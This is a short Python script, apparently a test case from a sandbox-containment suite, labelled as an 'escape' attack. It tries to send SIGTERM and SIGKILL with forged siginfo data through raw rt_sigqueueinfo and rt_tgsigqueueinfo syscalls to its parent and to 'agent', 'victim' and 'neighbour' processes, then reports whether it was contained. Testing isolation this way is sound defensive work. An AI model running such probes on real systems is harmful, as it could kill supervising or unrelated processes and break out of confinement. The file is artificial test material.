# /// attack
# kind = "escape"
# aim = "queue signals to others: rt_sigqueueinfo and rt_tgsigqueueinfo"
# outcome = "exited"
# ///
import ctypes
import json
import os
import signal
import struct

given = json.loads(input())
libc = ctypes.CDLL(None, use_errno=True)
to_process, to_thread = {"x86_64": (129, 297), "aarch64": (138, 240)}[os.uname().machine]
for pid in (os.getppid(), given["agent"], given["victim"], given["neighbour"]):
    for number in (0, signal.SIGTERM, signal.SIGKILL):
        for code in (-1, -6, 0):  # SI_QUEUE, SI_TKILL, SI_USER
            info = struct.pack("iiiiii", number, 0, code, 0, os.getpid(), os.getuid()).ljust(128, b"\0")
            if libc.syscall(to_process, pid, number, info) == 0:
                print("managed rt_sigqueueinfo", pid, number, code)
            if libc.syscall(to_thread, pid, pid, number, info) == 0:
                print("managed rt_tgsigqueueinfo", pid, number, code)
print("contained")
